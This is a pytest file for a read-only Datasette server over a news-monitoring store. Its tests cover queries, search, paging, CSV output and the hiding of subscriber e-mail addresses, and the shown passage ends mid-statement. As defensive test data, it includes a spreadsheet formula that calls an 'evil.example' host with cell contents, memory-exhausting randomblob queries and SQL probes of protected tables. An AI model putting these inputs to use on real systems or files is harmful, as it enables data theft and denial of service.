"""`stiwatch serve`: Datasette on the store, read-only, documented, with canned queries.

Started for real as a subprocess on a free port and driven by headless Chromium.
"""

from __future__ import annotations

import asyncio
import collections
from contextlib import contextmanager
import csv
import html
import io
import itertools
import json
import os
from pathlib import Path
import re
import socket
import subprocess
import sys
import time
import urllib.error
import urllib.parse
import urllib.request

import pytest

import analysts_store
from conftest import isolate
import db
from db.canned import CANNED_QUERIES
from db.docs import undocumented
from fsaccess import AS_OTHER_USERS, NOBODY, as_user, owners_store, shared_folder, stiwatch_as
from stiwatch.datasette_meta import build_metadata


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


def get(url: str) -> tuple[int, str]:
    try:
        with urllib.request.urlopen(url, timeout=10) as response:
            return response.status, response.read().decode()
    except urllib.error.HTTPError as error:
        return error.code, error.read().decode()


@contextmanager
def serving(db_path, tmp_path, *options):
    port = free_port()
    log = open(tmp_path / "serve.log", "w+")
    process = subprocess.Popen(
        [sys.executable, "-m", "stiwatch", "--db", str(db_path), "serve", "--port", str(port),
         *options],
        stdout=log, stderr=subprocess.STDOUT,
    )
    base = f"http://127.0.0.1:{port}"
    try:
        deadline = time.monotonic() + 30
        while True:
            try:
                if get(base + "/-/versions.json")[0] == 200:
                    break
            except OSError:
                pass
            if process.poll() is not None or time.monotonic() > deadline:
                log.seek(0)
                pytest.fail(f"stiwatch serve did not start:\n{log.read()}")
            time.sleep(0.2)
        yield base
    finally:
        process.terminate()
        process.wait(timeout=10)
        log.close()


@pytest.fixture(scope="module")
def analysts_site(tmp_path_factory):
    """One `stiwatch serve` of the analysts' store for the tests that only read its pages
    (each serve costs a process and Datasette's start-up): (its base URL, the items' ids).
    Its environment is cleared of the developer's settings as `isolated_env` does."""
    folder = tmp_path_factory.mktemp("analysts-site")
    db_path = folder / "stiwatch.db"
    ids = analysts_store.build(db_path)
    env = pytest.MonkeyPatch()
    try:
        isolate(env, folder)
        env.chdir(folder)
        with serving(db_path, folder) as base:
            env.undo()  # the server has its environment; each test gets its own
            yield base, ids
    finally:
        env.undo()


def test_metadata_documents_every_table_and_column(tmp_path):
    with db.open_store(tmp_path / "m.db") as store:
        assert undocumented(store.conn) == []
        names = [row[0] for row in store.conn.execute(
            "SELECT name FROM sqlite_master WHERE type IN ('table', 'view') "
            "AND name NOT LIKE 'sqlite_%' AND name NOT LIKE 'items_fts_%'")]
        tables = build_metadata("m")["databases"]["m"]["tables"]
        for name in names:
            assert tables[name]["description_html"], name
            if name == "items_fts":
                continue
            columns = [row[1] for row in store.conn.execute(f"PRAGMA table_info({name})")]
            assert set(columns) <= set(tables[name]["columns"]), name
            # shown as plain text, where Markdown's backticks would stay
            assert not any("`" in text for text in tables[name]["columns"].values()), name
        # Every canned query runs on a real store (its parameters given).
        for name, query in CANNED_QUERIES.items():
            store.query(query["sql"], {"country": "JP", "q": "研究", "since": ""})


@pytest.mark.browser
def test_serve_in_chromium_with_canned_queries(db_path, tmp_path, chromium_page):
    analysts_store.build(db_path)
    with db.open_store(db_path) as store:
        store.save_items([{"url": "https://mext-news.example/ja", "source_id": "mext-news",
                           "title": "量子技術の研究開発を推進", "body": "内閣府は戦略を改定した。"}])
    with serving(db_path, tmp_path) as base:
        page = chromium_page
        page.goto(f"{base}/stiwatch")
        text = page.inner_text("body")
        for title in ("This week's policy items by area", "Source health",
                      "Weekly trend by area", "Items about one country"):
            assert title in text
        assert "subscribers" not in text and "deliveries" not in text  # readers' addresses
        page.goto(f"{base}/stiwatch?sql=select+*+from+subscribers")
        assert "access to subscribers.email is prohibited" in page.inner_text("body")

        page.goto(f"{base}/stiwatch/items_of_country")
        page.fill("input[name=country]", "jp")
        page.click("input[type=submit]")
        page.wait_for_load_state()
        text = page.inner_text("body")
        assert "Japan launches national quantum strategy" in text
        assert "Japan funds semiconductor research consortium" in text
        assert "NSF issues research security guidance" not in text
        shot = tmp_path / "country.png"
        page.screenshot(path=str(shot), full_page=True)
        assert shot.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n" and shot.stat().st_size > 5000

        page.goto(f"{base}/stiwatch/source_health")
        text = page.inner_text("body")
        assert "failing" in text and "HTTP 503 Service Unavailable" in text

        page.goto(f"{base}/stiwatch/policy_this_week_by_area")
        text = page.inner_text("body")
        assert "research_security" in text and "Commission adopts open science mandate" in text
        assert text.count("Commission adopts open science mandate") == 1  # copy folded

        # Column documentation and facets on the tags table.
        page.goto(f"{base}/stiwatch/tags")
        text = page.inner_text("body")
        assert "Labels on items, one row per (item, facet, value)" in text
        assert page.inner_text("code >> nth=0") == "stiwatch tag"
        assert "facet" in text and "value" in text and "method" in text
        page.goto(f"{base}/stiwatch/items_tagged")
        assert "source_name" in page.inner_text("body")
        status, body = get(f"{base}/stiwatch/tags.json?_facet=facet&_size=0")
        facets = json.loads(body)["facet_results"]
        assert "facet" in facets

        # One count per area (not per comma-joined combination) on the JSON-array view.
        status, body = get(f"{base}/stiwatch/items_tagged_json.json?_size=0")
        results = json.loads(body)["facet_results"]
        results = results.get("results", results)  # Datasette 0.6x vs 1.0 shapes
        areas = {row["value"]: row["count"] for row in results["areas"]["results"]}
        with db.open_store(db_path) as store:
            expected = {r["value"]: r["n"] for r in store.query(
                "SELECT value, count(*) AS n FROM tags JOIN items ON items.id = item_id "
                "WHERE facet = 'area' AND duplicate_of IS NULL GROUP BY value")}
        assert areas and areas == expected and all("," not in area for area in areas)

        # Full-text search box on items.
        status, body = get(f"{base}/stiwatch/items.json?_search=quantum&_shape=array")
        assert status == 200 and len(json.loads(body)) == 3
        # Chinese, Japanese and Korean words: the canned query (the search box cannot).
        page.goto(f"{base}/stiwatch/search_cjk")
        page.fill("input[name=q]", "戦略")
        page.click("input[type=submit]")
        page.wait_for_load_state()
        text = page.inner_text("body")
        assert "量子技術の研究開発を推進" in text and "内閣府は戦略を改定した。" in text
        status, body = get(f"{base}/stiwatch/search_cjk.json?q=%E7%A0%94%E7%A9%B6&country="
                           "&since=&_shape=array")
        assert status == 200 and [r["title"] for r in json.loads(body)] == [
            "量子技術の研究開発を推進"]

        # Read-only: writes are refused and the file is unchanged.
        status, body = get(f"{base}/stiwatch.json?sql=DELETE+FROM+items")
        assert status == 400
    with db.open_store(db_path) as store:
        assert store.scalar("SELECT count(*) FROM items") == 8


def test_a_busy_port_is_one_line_naming_it_before_any_announcement(db_path, tmp_path):
    with db.open_store(db_path):
        pass
    with socket.socket() as busy:
        busy.bind(("127.0.0.1", 0))
        busy.listen()
        port = busy.getsockname()[1]
        result = subprocess.run(
            [sys.executable, "-m", "stiwatch", "--db", str(db_path), "serve", "--port", str(port)],
            capture_output=True, text=True, timeout=60)
    assert result.returncode == 2  # bad input or environment, as docs/operations.md says
    assert result.stdout == ""  # never "Serving ... at" a port it does not hold
    assert result.stderr.startswith(f"Error: cannot listen on 127.0.0.1:{port} (")
    assert result.stderr.count("\n") == 1


def started_serve(db_path: Path, page: str) -> subprocess.Popen:
    """`stiwatch serve` of ``db_path`` in a process of its own, its output piped, once ``page``
    answers (or it has ended, or 30 s have passed): for the tests of how it stops."""
    port = free_port()
    process = subprocess.Popen(
        [sys.executable, "-m", "stiwatch", "--db", str(db_path), "serve", "--port", str(port)],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline and process.poll() is None:
        try:
            if get(f"http://127.0.0.1:{port}{page}")[0] == 200:
                break
        except OSError:
            time.sleep(0.2)
    return process


def test_ctrl_c_stops_serve_without_an_error(db_path, tmp_path):
    """`stiwatch serve --help`: "Stop it with Ctrl-C." The way it is meant to stop printed
    "Error: interrupted by SIGINT" (uvicorn raises the signal again once it has shut down)."""
    import signal

    with db.open_store(db_path):
        pass
    process = started_serve(db_path, "/-/versions.json")
    try:
        process.send_signal(signal.SIGINT)
        _, stderr = process.communicate(timeout=30)
    finally:
        if process.poll() is None:
            process.kill()
            process.wait()
    assert process.returncode == 0, stderr
    assert "Error" not in stderr and "Traceback" not in stderr, stderr


@pytest.mark.parametrize("stop, status", [("SIGINT", 0), ("SIGTERM", -15)],
                         ids=["ctrl-c", "systemctl-stop"])
def test_a_stopped_serve_leaves_no_wal_or_shm_file_beside_the_store(db_path, stop, status):
    """Datasette reads mode=ro: its connections made the -wal and -shm it needs and, unable to
    write, left them in the data folder after serve stopped, by Ctrl-C or by systemd. A stop
    by SIGTERM still ends the process as that signal does (systemd's clean stop)."""
    import signal

    analysts_store.build(db_path)
    before = sorted(p.name for p in db_path.parent.iterdir())
    process = started_serve(db_path, "/stiwatch/items.json")
    try:
        served = sorted(p.name for p in db_path.parent.iterdir())
        process.send_signal(getattr(signal, stop))
        _, stderr = process.communicate(timeout=30)
    finally:
        if process.poll() is None:
            process.kill()
            process.wait()
    assert {"stiwatch.db-wal", "stiwatch.db-shm"} <= set(served)  # it did read the store
    assert process.returncode == status, stderr
    assert "Traceback" not in stderr, stderr
    assert sorted(p.name for p in db_path.parent.iterdir() if not p.name.endswith(".lock")
                  ) == before


def test_two_serves_stopped_one_after_the_other_leave_no_wal_or_shm_file(db_path, tmp_path):
    """The second serve found the first's -wal and -shm when it opened the store, and left
    them when it stopped last. An empty -wal (what a reader makes) is removed by whichever
    reader closes last."""
    from contextlib import ExitStack

    analysts_store.build(db_path)
    with ExitStack() as second:
        with ExitStack() as first:
            url = first.enter_context(serving(db_path, tmp_path))
            assert get(url + "/stiwatch/items.json")[0] == 200
            url = second.enter_context(serving(db_path, tmp_path))
            assert get(url + "/stiwatch/items.json")[0] == 200
        assert Path(f"{db_path}-wal").exists()  # the second has it open still
    assert sorted(p.name for p in db_path.parent.iterdir()
                  if p.name.startswith("stiwatch.db")) == ["stiwatch.db"]


def test_canned_queries_run_on_an_empty_store_and_read_days_in_the_timezone(db_path, tmp_path):
    """Every canned query answers on a store with no items; search_cjk's since is a day in
    the `timezone` setting (Asia/Tokyo by default), as `stiwatch search --since` reads it."""
    with db.open_store(db_path):
        pass
    with serving(db_path, tmp_path) as base:
        for name in CANNED_QUERIES:
            status, body = get(f"{base}/stiwatch/{name}.json?q=%E7%A0%94%E7%A9%B6&country=JP"
                               "&since=2026-11-18&_shape=objects")
            assert status == 200 and json.loads(body)["ok"], (name, body[:300])
    with db.open_store(db_path) as store:
        store.sync_sources(analysts_store.SOURCES[:1])
        # 23:59:59 on 17 Nov and 01:00 on 18 Nov in Tokyo: both on 17 Nov in UTC.
        store.save_items([{"url": f"https://mext-news.example/{key}", "source_id": "mext-news",
                           "title": f"研究予算 {key}", "published_at": published,
                           "date_source": "feed"}
                          for key, published in (("late-17", "2026-11-17T14:59:59Z"),
                                                 ("tokyo-18", "2026-11-17T16:00:00Z"))])
    with serving(db_path, tmp_path) as base:
        status, body = get(f"{base}/stiwatch/search_cjk.json?q=%E7%A0%94%E7%A9%B6&country="
                           "&since=2026-11-18&_shape=array")
        assert status == 200 and [row["title"] for row in json.loads(body)] == [
            "研究予算 tokyo-18"]


def test_the_weekly_canned_queries_use_the_weeks_of_the_timezone_setting(db_path, tmp_path):
    """This week and the weekly trend start on Monday in Asia/Tokyo (the default `timezone`),
    as the digest and `stiwatch trends` do, not on Monday in UTC."""
    from datetime import datetime, time as clock, timedelta, timezone
    from zoneinfo import ZoneInfo

    tokyo = ZoneInfo("Asia/Tokyo")
    today = datetime.now(tokyo).date()
    monday = datetime.combine(today - timedelta(days=today.weekday()), clock(), tokyo)
    times = {"monday-0030": monday + timedelta(minutes=30),  # this week in Tokyo, not in UTC
             "sunday-2330": monday - timedelta(minutes=30)}  # last week in Tokyo
    with db.open_store(db_path) as store:
        store.sync_sources(analysts_store.SOURCES[:1])
        saved = store.save_items([
            {"url": f"https://mext-news.example/{key}", "source_id": "mext-news",
             "title": f"Budget {key}", "date_source": "feed",
             "published_at": moment.astimezone(timezone.utc).strftime("%Y-%m-%dT%H:%M:%SZ")}
            for key, moment in times.items()])
        store.save_classifications(
            [(item_id, [{"facet": "policy", "value": "1", "score": 0.9, "method": "model"},
                        {"facet": "area", "value": "governance", "score": 0.9,
                         "method": "model"}]) for item_id, _ in saved], "test-1")
    with serving(db_path, tmp_path) as base:
        status, body = get(f"{base}/stiwatch/policy_this_week_by_area.json?_shape=array")
        assert status == 200 and [row["title"] for row in json.loads(body)] == [
            "Budget monday-0030"]
        status, body = get(f"{base}/stiwatch/weekly_trend_by_area.json?_shape=array")
        weeks = {row["week_start"]: row["items"] for row in json.loads(body)}
        assert weeks == {monday.date().isoformat(): 1,
                         (monday.date() - timedelta(days=7)).isoformat(): 1}


def test_items_of_country_takes_the_code_as_typed(db_path):
    """A code with spaces around it or in lower case, as typed into the form, still matches."""
    ids = analysts_store.build(db_path)
    sql = CANNED_QUERIES["items_of_country"]["sql"]
    with db.open_store(db_path, readonly=True) as store:
        for typed in ("JP", "jp", " jp ", "JP\t"):
            rows = store.query(sql, {"country": typed})
            assert {row["id"] for row in rows} == {ids["jp-quantum"], ids["jp-semis"]}, typed


def test_a_query_cannot_make_the_server_allocate_a_gigabyte(analysts_site):
    """Any visitor may run a SELECT: randomblob(999000000) made the server build a 1 GB value
    per request (a few at once exhaust the machine). Values are capped at 64 MiB; every item
    still reads in full."""
    base, _ids = analysts_site
    for sql in ("select+length(randomblob(999000000))",
                "select+length(hex(randomblob(40000000)))"):
        status, body = get(f"{base}/stiwatch.json?sql={sql}")
        assert json.loads(body)["error"] == "string or blob too big", body[:300]
    status, body = get(f"{base}/stiwatch.json?sql=select+length(randomblob(1000000))"
                       "+as+n&_shape=array")
    assert status == 200 and json.loads(body) == [{"n": 1000000}]
    status, body = get(f"{base}/stiwatch/items.json?_shape=array&_size=max")
    assert status == 200 and len(json.loads(body)) == len(analysts_store.ITEMS)


def test_readers_addresses_are_not_served_unless_asked(db_path, tmp_path):
    """subscribers and deliveries hold readers' e-mail addresses: absent from the pages, 403
    for their URLs, and SQL reading them (directly, counted, in a subquery) is refused. With
    --show-subscribers they are served like any table."""
    analysts_store.build(db_path)
    address = "taro.yamada@jst.example"
    with db.open_store(db_path) as store:
        store.save_subscribers([{"email": address, "name": "山田太郎"}])
        store.ensure_deliveries("2026-W47", [address])
    refused = ("select * from subscribers", "select count(*) from deliveries",
               "select title from items where exists (select 1 from subscribers)",
               "select subscriber from deliveries", "SELECT EMAIL FROM Subscribers")
    with serving(db_path, tmp_path) as base:
        for url in ("/", "/stiwatch", "/stiwatch.json"):
            status, body = get(base + url)
            assert status == 200 and "subscribers" not in body and "deliveries" not in body
        for table in ("subscribers", "deliveries"):
            for suffix in ("", ".json", ".csv", ".json?_shape=array"):
                status, body = get(f"{base}/stiwatch/{table}{suffix}")
                assert status in (403, 404) and address not in body, (table, suffix)
        status, body = get(f"{base}/stiwatch/subscribers/{address}.json")
        assert status in (403, 404) and address not in body
        for sql in refused:
            status, body = get(f"{base}/stiwatch.json?" + urllib.parse.urlencode({"sql": sql}))
            assert status != 200 and address not in body, sql
            assert "not authorized" in body or "prohibited" in body, body[:300]
            status, body = get(f"{base}/stiwatch?" + urllib.parse.urlencode({"sql": sql}))
            assert address not in body
        # Everything else still answers.
        status, body = get(f"{base}/stiwatch.json?sql=select+count(*)+as+n+from+items"
                           "&_shape=array")
        assert status == 200 and json.loads(body) == [{"n": len(analysts_store.ITEMS)}]
    with serving(db_path, tmp_path, "--show-subscribers") as base:
        status, body = get(f"{base}/stiwatch/subscribers.json?_shape=array")
        assert status == 200 and [row["email"] for row in json.loads(body)] == [address]
        status, body = get(f"{base}/stiwatch.json?sql=select+subscriber+from+deliveries"
                           "&_shape=array")
        assert status == 200 and json.loads(body) == [{"subscriber": address}]
        assert "subscribers" in get(f"{base}/stiwatch")[1]


def test_canned_queries_reading_personal_tables_are_hidden_with_them():
    from stiwatch.datasette_meta import reads_personal

    assert reads_personal("SELECT email FROM subscribers") and reads_personal(
        "select * from Deliveries d")
    assert not reads_personal("SELECT * FROM items")
    queries = build_metadata("m")["databases"]["m"]["queries"]
    assert set(queries) == {name for name, q in CANNED_QUERIES.items()
                            if not reads_personal(q["sql"])}
    tables = build_metadata("m")["databases"]["m"]["tables"]
    assert tables["subscribers"]["allow"] is False and tables["deliveries"]["allow"] is False
    assert "allow" not in build_metadata("m", personal=True)["databases"]["m"]["tables"][
        "subscribers"]


def test_the_items_search_box_takes_what_an_analyst_types(db_path, tmp_path):
    """A lone quote, a dangling AND, R&D or co-operation was a 400 page (FTS5's syntax error):
    now a page of results, with the search syntax of `stiwatch search` where it parses and the
    words searched as plain words, saying why, where it does not."""
    analysts_store.build(db_path)
    with db.open_store(db_path) as store:
        store.save_items([{"url": "https://mext-news.example/rd", "source_id": "mext-news",
                           "title": "R&D co-operation with Korea", "body": "研究 と 開発"}])
    with serving(db_path, tmp_path) as base:
        def search(typed: str) -> tuple[set[str], str]:
            query = urllib.parse.urlencode({"_search": typed, "_shape": "objects"})
            status, body = get(f"{base}/stiwatch/items.json?{query}")
            assert status == 200, (typed, body[:300])
            status, page = get(f"{base}/stiwatch/items?{query}")
            assert status == 200, (typed, page[:300])
            data = json.loads(body)
            return {row["title"] for row in data["rows"]}, data["human_description_en"]

        quantum = {"Japan launches national quantum strategy", "Astronomers discover a distant "
                   "galaxy", "Japan funds semiconductor research consortium"}
        assert search("quantum") == (quantum, 'where search matches "quantum" sorted by '
                                     "id descending")
        for typed in ('"', "AND", "NOT", "(", "quantum AND", '"quantum', "foo:bar", "OR OR"):
            titles, description = search(typed)
            assert "searched as plain words, since" in description, (typed, description)
        assert search('"quantum')[0] == quantum
        assert "the quote in '\"' is not closed" in search('"')[1]
        for typed in ("R&D", "co-operation", "R&D co-operation", "研究"):
            titles, description = search(typed)
            assert titles == {"R&D co-operation with Korea"}, typed
            assert "plain words" not in description
        # The syntax of `stiwatch search` still works.
        assert search("quantum -japan")[0] == {"Astronomers discover a distant galaxy"}
        assert search("title:quantum")[0] == {"Japan launches national quantum strategy"}
        assert search("quantum OR semiconductor")[0] == quantum
        assert search('"research security" AND china')[0] == {
            "NSF issues research security guidance for grantees"}
        assert search("strateg*")[0] == {"Japan launches national quantum strategy",
                                         "EU AI research strategy adds computing for start-ups"}


def test_csv_downloads_start_with_a_bom_for_excel_when_asked(db_path, tmp_path, monkeypatch):
    """Excel on Windows garbles the Japanese of a CSV without a BOM: `serve --bom` or the
    csv_bom setting puts one before every CSV download (table, SQL, streamed); JSON and the
    default stay as Datasette writes them."""
    analysts_store.build(db_path)
    with db.open_store(db_path) as store:
        store.save_items([{"url": "https://mext-news.example/ja", "source_id": "mext-news",
                           "title": "量子技術の研究開発を推進"}])
    urls = ("/stiwatch/items.csv?_dl=1", "/stiwatch/items.csv?_stream=on&_size=2",
            "/stiwatch.csv?sql=select+title+from+items")

    def fetch(url: str) -> bytes:
        with urllib.request.urlopen(url, timeout=10) as response:
            assert response.status == 200
            return response.read()

    with serving(db_path, tmp_path) as base:
        plain = {url: fetch(base + url) for url in urls}
    assert all(not body.startswith(b"\xef\xbb\xbf") for body in plain.values())
    assert "量子技術の研究開発を推進".encode() in plain[urls[0]]
    with serving(db_path, tmp_path, "--bom") as base:
        for url in urls:
            assert fetch(base + url) == b"\xef\xbb\xbf" + plain[url], url
        assert fetch(f"{base}/stiwatch/items.json?_size=1").startswith(b"{")
    monkeypatch.setenv("STIWATCH_CSV_BOM", "true")
    with serving(db_path, tmp_path) as base:
        assert fetch(base + urls[0]) == b"\xef\xbb\xbf" + plain[urls[0]]


def test_csv_downloads_quote_cells_a_spreadsheet_would_run_as_formulas(db_path, tmp_path):
    """A crawled title `=HYPERLINK(...)` went into Datasette's CSV as is, and ran as a
    formula when the download was opened in Excel; stiwatch's own CSV quoted it. Now the
    browser's CSV does the same, for a table, a query and a streamed download."""
    analysts_store.build(db_path)
    formula = '=HYPERLINK("http://evil.example/?"&A1, "Read")'
    with db.open_store(db_path) as store:
        store.save_items([{"url": "https://mext-news.example/evil", "source_id": "mext-news",
                           "title": formula, "summary": "@SUM(1+1)",
                           "body": 'two\nlines, "quoted" -and\n=not a cell start'}])
    with serving(db_path, tmp_path) as base:
        for url in ("/stiwatch/items.csv?_dl=1&_size=max", "/stiwatch/items.csv?_stream=on",
                    "/stiwatch.csv?sql=select+id,title,summary,body+from+items"):
            status, body = get(base + url)
            assert status == 200, body[:300]
            rows = {row["id"]: row for row in csv.DictReader(io.StringIO(body, newline=""))}
            assert len(rows) == len(analysts_store.ITEMS) + 1, url
            evil = next(row for row in rows.values() if "HYPERLINK" in row["title"])
            assert evil["title"] == "'" + formula and evil["summary"] == "'@SUM(1+1)", url
            assert evil["body"] == 'two\nlines, "quoted" -and\n=not a cell start', url
            assert "Japan launches national quantum strategy" in {
                row["title"] for row in rows.values()}


def test_paging_through_items_shows_each_item_once(db_path, tmp_path):
    """items was sorted by published_at by default: Datasette 0.65 pages such a sort without
    a tie-breaker on the first page, so of 67 items, 60 published the same day, the pages and
    the "stream all rows" CSV showed 98 rows, 53 of them distinct. The views, sorted by
    published_at, page by offset and were right."""
    analysts_store.build(db_path)
    with db.open_store(db_path) as store:
        store.save_items([{"url": f"https://mext-news.example/day-{n}", "source_id": "mext-news",
                           "title": f"Same-day notice {n}", "date_source": "page",
                           "published_at": "2026-11-20T00:00:00Z"} for n in range(60)])
        every = {row["id"] for row in store.query("SELECT id FROM items")}
    with serving(db_path, tmp_path) as base:
        for table in ("items", "items_tagged"):
            url, seen = f"{base}/stiwatch/{table}.json?_shape=objects", []
            while url:
                data = json.loads(get(url)[1])
                seen += [row["id"] for row in data["rows"]]
                url = data.get("next_url")
            assert sorted(seen) == sorted(every), table
            status, body = get(f"{base}/stiwatch/{table}.csv?_stream=on")
            ids = [int(row["id"]) for row in csv.DictReader(io.StringIO(body, newline=""))]
            assert sorted(ids) == sorted(every), table


def test_paging_a_table_sorted_by_a_column_with_repeated_values_shows_each_row_once(
        db_path, tmp_path):
    """Sorting items by date, source or language (or tags by facet) and paging with Next
    repeated rows and skipped others: Datasette 0.65 orders the first page by the column
    alone and the next pages by the column and the primary key. Every page, every
    sortable column a row repeats in, each table and view the browser shows."""
    analysts_store.build(db_path)
    with db.open_store(db_path) as store:
        saved = store.save_items([
            {"url": f"https://{source}.example/day-{n}", "source_id": source,
             "title": f"Same-day notice {n}", "date_source": "page", "language": language,
             "published_at": "2026-11-20T00:00:00Z"}
            for n in range(130)
            for source, language in [[("mext-news", "ja"), ("nsf-news", "en")][n % 2]]])
        store.save_classifications(
            [(item_id, [{"facet": "policy", "value": "1", "score": 0.5, "method": "model"},
                        {"facet": "country", "value": "JP", "score": 1.0, "method": "gazetteer"}])
             for item_id, _ in saved], "test-1")
        keys = {"items": "id", "items_tagged": "id", "items_tagged_json": "id",
                "sources": "id", "tags": ("item_id", "facet", "value")}
        every = {table: sorted(
            tuple(row[k] for k in key) if isinstance(key, tuple) else row[key]
            for row in store.query(f"SELECT * FROM {table}")) for table, key in keys.items()}
    sorts = {"items": ["_sort_desc=published_at", "_sort=published_at", "_sort=source_id",
                       "_sort_desc=source_id", "_sort_desc=language", "_sort=status"],
             "tags": ["_sort_desc=facet", "_sort=facet", "_sort_desc=score", "_sort=value"],
             "sources": ["_sort_desc=kind", "_sort=country"],
             "items_tagged": ["_sort_desc=published_at", "_sort=source_id", "_sort_desc=policy"],
             "items_tagged_json": ["_sort=published_at", "_sort_desc=policy"]}

    def ids(table: str, rows: list[dict]) -> list:
        key = keys[table]
        return [tuple(row[k] for k in key) if isinstance(key, tuple) else row[key]
                for row in rows]

    with serving(db_path, tmp_path) as base:
        for table, orders in sorts.items():
            for order in orders:
                size = 2 if table == "sources" else 50
                url, seen = f"{base}/stiwatch/{table}.json?_shape=objects&_size={size}&{order}", []
                while url:
                    data = json.loads(get(url)[1])
                    seen += ids(table, data["rows"])
                    url = data.get("next_url")
                assert sorted(seen) == every[table], (table, order)
                status, body = get(f"{base}/stiwatch/{table}.csv?_stream=on&{order}")
                rows = list(csv.DictReader(io.StringIO(body, newline="")))
                if table == "tags":
                    rows = [{**row, "item_id": int(row["item_id"])} for row in rows]
                elif keys[table] == "id" and table != "sources":
                    rows = [{**row, "id": int(row["id"])} for row in rows]
                assert sorted(ids(table, rows)) == every[table], (table, order, "CSV")


def test_a_streamed_csv_download_holds_every_row_once(db_path, tmp_path):
    """`items.csv?_stream=on` of a table and a view of several thousand items: each item once,
    all of them. Its speed (it read 50 rows a query, and the formula quoting parsed every row
    ending in an empty cell: 64 s where `stiwatch export` took 10 s at 50,000 items) is
    measured by bench/serve_csv.py, not timed here."""
    analysts_store.build(db_path)
    body = ("The council reviewed grants, fellowships and research infrastructure, and "
            "published its annual report on international collaboration. ")
    with db.open_store(db_path) as store:
        store.save_items([{"url": f"https://mext-news.example/n-{k}",
                           "source_id": "mext-news", "title": f"Notice {k}",
                           "body": body, "language": "en", "date_source": "page",
                           "published_at": "2026-11-20T00:00:00Z"}
                          for k in range(5_000)])
        total = store.scalar("SELECT count(*) FROM items")
    with serving(db_path, tmp_path) as base:
        for table in ("items", "items_tagged"):
            with urllib.request.urlopen(f"{base}/stiwatch/{table}.csv?_stream=on",
                                        timeout=300) as response:
                text = response.read().decode()
            rows = list(csv.DictReader(io.StringIO(text, newline="")))
            assert len({row["id"] for row in rows}) == len(rows) == total, table


def test_csv_downloads_quote_a_formula_in_a_row_with_a_body_over_128_kib(db_path, tmp_path):
    """A title starting with - (not a number) in a row whose body is a long report (over
    128 Ki characters, the csv module's default cap on a cell): the formula quoting raised
    "field larger than field limit" and the download, status 200, held the header and that
    message instead of the items."""
    analysts_store.build(db_path)
    body = "Annual report on research funding. " * 5_000
    with db.open_store(db_path) as store:
        store.save_items([{"url": "https://mext-news.example/report", "source_id": "mext-news",
                           "title": "-5% for research: the annual report", "body": body}])
    limit = csv.field_size_limit(1_000_000)  # the test's own reader
    try:
        with serving(db_path, tmp_path) as base:
            for url in ("/stiwatch/items.csv?_stream=on", "/stiwatch/items.csv?_size=max",
                        "/stiwatch.csv?sql=select+id,title,body+from+items"):
                status, text = get(base + url)
                assert status == 200, text[:300]
                rows = list(csv.DictReader(io.StringIO(text, newline="")))
                assert len(rows) == len(analysts_store.ITEMS) + 1, (url, text[-300:])
                report = next(row for row in rows if "annual report" in row["title"])
                assert report["title"] == "'-5% for research: the annual report"
                assert report["body"] == body
    finally:
        csv.field_size_limit(limit)


def test_a_streamed_csv_download_over_100_mb_arrives_whole(db_path, tmp_path):
    """Datasette cuts a CSV download at 100 MB (max_csv_mb) and writes its error as the
    file's last line, with status 200: a "stream all rows" download of a store of 50,000
    items (~100 MB with their bodies) came out short, with nothing but that line to say so.
    `stiwatch serve` lifts the cap: the download is streamed, so no memory grows with it."""
    analysts_store.build(db_path)
    long_text = "x" * 1_000_000
    with db.open_store(db_path) as store:
        store.save_items([{"url": f"https://mext-news.example/big-{k}", "source_id": "mext-news",
                           "title": f"Big {k}"} for k in range(110)])
        with store.write():  # a column outside the full-text index: a quick large store
            store.conn.execute("UPDATE items SET fetch_error = ? WHERE title LIKE 'Big %'",
                               [long_text])
        total = store.scalar("SELECT count(*) FROM items")
    with serving(db_path, tmp_path) as base:
        with urllib.request.urlopen(f"{base}/stiwatch/items.csv?_stream=on&_size=max",
                                    timeout=300) as response:
            assert response.status == 200
            text = response.read().decode()
    assert len(text) > 110_000_000
    assert "CSV contains more than" not in text[-200:]
    limit = csv.field_size_limit(2_000_000)  # the reader's own cap on a cell, 128 KiB
    try:
        rows = list(csv.DictReader(io.StringIO(text, newline="")))
    finally:
        csv.field_size_limit(limit)
    assert len(rows) == total and rows[-1]["id"] and rows[-1]["url"]


def test_the_items_search_box_finds_chinese_japanese_and_korean_words(db_path, tmp_path):
    """The search box read items_fts only, which holds a run of CJK characters as one word:
    研究 found nothing in 量子技術の研究開発を推進 (0 items of 6,808 holding it in a store of
    50,000), and only the canned query search_cjk could. Now it reads an item with CJK
    letters in items_fts_cjk, as `stiwatch search` does, English words unchanged."""
    from test_search_cjk import CJK_ITEMS

    ids = analysts_store.build(db_path)
    with db.open_store(db_path) as store:
        rows = [{"url": f"https://{source}.example/{key}", "source_id": source, "title": title,
                 "summary": summary, "body": body, "date_source": "feed", "language": key[:2],
                 "published_at": analysts_store.ago(days)}
                for key, source, days, title, summary, body, _ in CJK_ITEMS]
        for item, (item_id, _) in zip(CJK_ITEMS, store.save_items(rows)):
            ids[item[0]] = item_id
    keys = {item_id: key for key, item_id in ids.items()}
    expected = {
        "研究": {"ja-quantum", "ja-security", "ja-separated", "zh-strategy"},
        "研究開発": {"ja-quantum"},
        "연구": {"ko-budget"},
        "セキュリティ": {"ja-security"},
        "NEDO": {"ja-quantum"},  # written against kana: NEDOは
        "title:研究": {"ja-security"},
        "研究 -量子": {"ja-security", "ja-separated"},
        "quantum OR 量子": {"ja-quantum", "zh-strategy", "jp-quantum", "jp-semis",
                           "us-discovery"},
        "quantum": {"jp-quantum", "jp-semis", "us-discovery"},
        '"研究': {"ja-quantum", "ja-security", "ja-separated", "zh-strategy"},  # plain words
    }
    # The views analysts start from have the same search box (it was shown there and did
    # nothing: every item, whatever was typed), and their tag facets count what it found.
    counted = 0
    with serving(db_path, tmp_path) as base:
        for (typed, want), table in itertools.product(
                expected.items(), ("items", "items_tagged", "items_tagged_json")):
            query = urllib.parse.urlencode({"_search": typed, "_shape": "objects",
                                            "_size": "max"})
            status, body = get(f"{base}/stiwatch/{table}.json?{query}")
            assert status == 200, (typed, table, body[:300])
            data = json.loads(body)
            assert {keys[row["id"]] for row in data["rows"]} == want, (typed, table)
            assert data["filtered_table_rows_count"] == len(want), (typed, table)
            if table != "items":
                facet = {row["value"]: row["count"]
                         for row in data["facet_results"]["policy"]["results"]}
                found = collections.Counter(row["policy"] for row in data["rows"]
